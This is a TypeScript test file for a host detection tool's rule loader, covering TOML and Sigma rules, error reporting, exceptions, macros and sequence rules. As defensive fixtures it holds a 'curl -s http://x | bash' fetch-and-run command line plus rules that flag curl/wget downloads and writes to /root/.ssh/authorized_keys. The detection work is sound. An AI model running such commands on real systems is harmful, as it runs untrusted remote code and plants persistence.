/**
 * The shared rule loader (src/detect/rule-set.ts): config rules + rules.d TOML + Sigma files, compiled with
 * the real compiler; every error names file, rule id and field, and all of them are reported together.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { ConfigError } from '../src/config/errors.js';
import { loadConfig } from '../src/config/load.js';
import { DetectionStage } from '../src/detect/detection-stage.js';
import { RuleSetError } from '../src/detect/rule-errors.js';
import { loadRuleSet, ruleSetCounts } from '../src/detect/rule-set.js';
import { exampleText } from './config-fixtures.js';
import { AGENT, processStart, write } from './detect-fixtures.js';

const SIGMA = fileURLToPath(new URL('../../test/fixtures/sigma/', import.meta.url));
const SIGMA_ID = '6a1f2c10-0000-4000-8000-000000000001';

/** A condition rule table; `extra` lines go before the detection. */
function cond(id: string, detection = '"exe_path|endswith" = "/curl"', extra = ''): string {
  return `[[rules]]\nid = "${id}"\nname = "${id} name"\nseverity = "high"\nevents = ["process_start"]\ncondition = "sel"\n${extra}\n[rules.detection.sel]\n${detection}\n`;
}

/** Writes config.toml (config.example.toml + `configExtra`) and rules.d files; returns the config path. */
function setup(t: { after: (fn: () => void) => void }, configExtra: string, files: Record<string, string> = {}): string {
  const dir = mkdtempSync(join(tmpdir(), 'rg-rule-set-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  writeFileSync(join(dir, 'config.toml'), exampleText() + '\n' + configExtra);
  mkdirSync(join(dir, 'rules.d'));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, 'rules.d', name), text);
  return join(dir, 'config.toml');
}

function load(path: string) {
  return loadRuleSet(loadConfig(path), path);
}

function loadError(path: string): ConfigError {
  try {
    load(path);
  } catch (err) {
    assert.ok(err instanceof ConfigError, `expected a ConfigError, got ${String(err)}`);
    return err;
  }
  assert.fail('expected the rule set to be refused');
}

test('config, rules.d TOML and Sigma rules load in order; a Sigma alert carries the Sigma id and title', (t) => {
  const path = setup(t, cond('CFG-1'), { 'a.toml': cond('DIR-1', '"exe_path|endswith" = "/wget"') });
  copyFileSync(join(SIGMA, 'proc-download-pipe.yml'), join(path, '..', 'rules.d', 'b.yml'));
  const set = load(path);
  assert.deepEqual(set.rules.map((r) => r.id), ['PROC-001', 'FILE-001', 'NET-001', 'CFG-1', 'DIR-1', SIGMA_ID]);
  assert.deepEqual(set.files.map((f) => f.split('/').pop()), ['a.toml', 'b.yml']);
  assert.deepEqual(ruleSetCounts(set), { legacy: 1, condition: 3, sequence: 0, disabled: 2 });

  const stage = new DetectionStage({ agent: { ...loadConfig(path).agent, id: AGENT } }, set, () => undefined);
  const curl = processStart({ comm: 'curl', exe_path: '/usr/bin/curl' });
  curl.parent_argv = ['sh', '-c', 'curl -s http://x | bash'];
  curl.cwd = '/home/u';
  const alerts = stage.evaluate(curl).alerts;
  assert.deepEqual(alerts.map((a) => [a.rule_id, a.rule_name, a.rule_type]), [
    ['CFG-1', 'CFG-1 name', 'condition'],
    [SIGMA_ID, 'Downloader piped into a shell', 'condition'],
  ]);
  assert.deepEqual(alerts[1]!.mitre, ['T1059.004', 'T1105']);
  assert.equal(alerts[1]!.description, 'curl or wget whose parent command line pipes the download into a shell.');
  // the Sigma filter (CurrentDirectory|startswith /opt/build) holds: no Sigma alert
  curl.cwd = '/opt/build/x';
  assert.deepEqual(stage.evaluate(curl).alerts.map((a) => a.rule_id), ['CFG-1']);
});

test('a compile error names the file, the rule id and the field, with the key path', (t) => {
  const path = setup(t, '', { 'x.toml': cond('OK-1') + cond('BAD-1', '"no_such_field" = "x"') });
  const err = loadError(path);
  const file = join(path, '..', 'rules.d', 'x.toml');
  assert.match(err.message, new RegExp(`^rules file ${file}: rule 'BAD-1': field 'no_such_field': `));
  assert.equal(err.path, file);
  assert.equal(err.keyPath, 'rules[1].no_such_field');
  // the same rule in the config names the config
  const inConfig = loadError(setup(t, cond('BAD-2', '"exe_path|nosuchmod" = "x"')));
  assert.match(inConfig.message, /^rules file .*config\.toml: rule 'BAD-2': field 'exe_path': selection 'sel': unknown modifier 'nosuchmod'$/);
  assert.equal(inConfig.keyPath, 'rules[3].exe_path');
});

test('every error is reported, not only the first: bad rules in two files, a duplicate list and a duplicate id', (t) => {
  const path = setup(t, '[lists]\nshells = ["/bin/sh"]\n' + cond('DUP-1'), {
    'a.toml': cond('BAD-A', '"exe_path|re" = "("'),
    'b.toml': '[lists]\nshells = ["/bin/bash"]\n' + cond('DUP-1') + cond('BAD-B', '"uid|gt" = "many"'),
  });
  const err = loadError(path);
  assert.ok(err instanceof RuleSetError, err.message);
  const dir = join(path, '..', 'rules.d');
  const lines = err.message.split('\n');
  assert.equal(lines.length, err.errors.length);
  assert.ok(lines.some((l) => l === `duplicate rule id 'DUP-1': rules[3] in ${path} and rules[0] in ${join(dir, 'b.toml')}`), err.message);
  assert.ok(lines.some((l) => l === `list 'shells' is defined twice: lists.shells in ${path} and lists.shells in ${join(dir, 'b.toml')}`), err.message);
  assert.ok(lines.some((l) => l.startsWith(`rules file ${join(dir, 'a.toml')}: rule 'BAD-A': field 'exe_path': selection 'sel': bad regex`)), err.message);
  assert.ok(lines.some((l) => l.startsWith(`rules file ${join(dir, 'b.toml')}: rule 'BAD-B': field 'uid': selection 'sel': 'gt' needs a number`)), err.message);
});

test('exceptions: an unknown rule or a legacy rule is refused; one in another file suppresses a rule', (t) => {
  const file = (p: string) => join(p, '..', 'rules.d', 'ex.toml');
  const unknown = setup(t, '', { 'ex.toml': '[[exceptions]]\nrule = "NOPE"\nfields = ["uid"]\nvalues = [[0]]\n' });
  const e1 = loadError(unknown);
  assert.equal(e1.message, `${file(unknown)}: exceptions[0].rule: unknown rule 'NOPE'`);
  assert.deepEqual([e1.path, e1.keyPath], [file(unknown), 'exceptions[0].rule']);
  const legacy = setup(t, '', { 'ex.toml': '[[exceptions]]\nrule = "PROC-001"\nfields = ["uid"]\nvalues = [[0]]\n' });
  assert.equal(loadError(legacy).message, `${file(legacy)}: exceptions[0].rule: rule 'PROC-001' is a process rule; exceptions apply to condition rules only`);

  const ok = setup(t, cond('CURL'), { 'ex.toml': '[[exceptions]]\nrule = "CURL"\nfields = ["uid"]\nvalues = [[1000]]\n' });
  const stage = new DetectionStage({ agent: loadConfig(ok).agent }, load(ok), () => undefined);
  assert.deepEqual(stage.evaluate(processStart({ comm: 'curl', exe_path: '/usr/bin/curl', uid: 0 })).alerts.map((a) => a.rule_id), ['CURL']);
  assert.deepEqual(stage.evaluate(processStart({ comm: 'curl', exe_path: '/usr/bin/curl', uid: 1000 })).alerts, [], 'uid 1000 is excepted');
});

test('a list and a macro of one file serve the rules of another', (t) => {
  const path = setup(t, '[lists]\nkeys = ["/.ssh/authorized_keys"]\n', {
    'm.toml': '[macros.keys_file]\n"path|endswith|expand" = "%keys%"\n',
    'r.toml': `[[rules]]\nid = "KEYS"\nname = "keys"\nseverity = "high"\nevents = ["file_write"]\ncondition = "keys_file and not sshd"\n[rules.detection.sshd]\nexe_path = "/usr/sbin/sshd"\n`,
  });
  const stage = new DetectionStage({ agent: loadConfig(path).agent }, load(path), () => undefined);
  assert.deepEqual(stage.evaluate(write('/root/.ssh/authorized_keys', { exe_path: '/usr/bin/tee' })).alerts.map((a) => a.rule_id), ['KEYS']);
  assert.deepEqual(stage.evaluate(write('/root/.ssh/authorized_keys', { exe_path: '/usr/sbin/sshd' })).alerts, []);
});

test('an unsupported Sigma file is refused naming the file, the rule id and the reason', (t) => {
  const path = setup(t, '');
  const target = join(path, '..', 'rules.d', 'agg.yaml');
  copyFileSync(join(SIGMA, 'refused', 'aggregation.yml'), target);
  const err = loadError(path);
  assert.match(err.message, new RegExp(`^rules file ${target}: rule refused-aggregation: .+`));
  assert.equal(err.path, target);
});

test('sequence rules compile into the rule set; a bad step names the step', (t) => {
  const seq = (second: string) =>
    `[[rules]]\nid = "SEQ"\ntype = "sequence"\nname = "s"\nseverity = "critical"\nmaxspan = "5s"\n` +
    `[[rules.steps]]\nevents = ["network_connect"]\nby = ["exec_id"]\n[rules.steps.detection.a]\n"exe_path|endswith" = "/sh"\n` +
    `[[rules.steps]]\nevents = ["process_start"]\nby = ["parent_exec_id"]\n[rules.steps.detection.b]\n${second}\n` +
    `[rules.until]\nevents = ["process_exit"]\nby = ["exec_id"]\n`;
  const set = load(setup(t, '', { 's.toml': seq('"exe_path|exists" = true') }));
  assert.equal(set.sequences.length, 1);
  const rule = set.sequences[0]!;
  assert.deepEqual([rule.meta.id, rule.steps.length, rule.until !== null, rule.maxspanNs, rule.ordered], ['SEQ', 2, true, 5e9, true]);
  const stage = new DetectionStage({ agent: { id: AGENT, mode: 'monitor', log_level: 'info' } }, set, () => undefined);
  assert.equal(stage.sequenceRules[0], rule);
  const err = loadError(setup(t, '', { 's.toml': seq('"remote_port" = 1') }));
  assert.match(err.message, /rule 'SEQ': field 'steps\[1\]\.remote_port': /);
});

test('a bad macro names the file that defines it, even when its list comes from another file', (t) => {
  const path = setup(t, '[lists]\nshells = ["/bin/sh"]\n', {
    'm.toml': '[macros.shell]\n"exe_path|expand" = "%shells%"\n[macros.broken]\n"no_such_field" = 1\n',
  });
  const err = loadError(path);
  const file = join(path, '..', 'rules.d', 'm.toml');
  assert.match(err.message, new RegExp(`^rules file ${file}: rule 'macros\\.broken': field 'no_such_field': `));
  assert.deepEqual([err.path, err.keyPath], [file, 'macros.broken']);
});
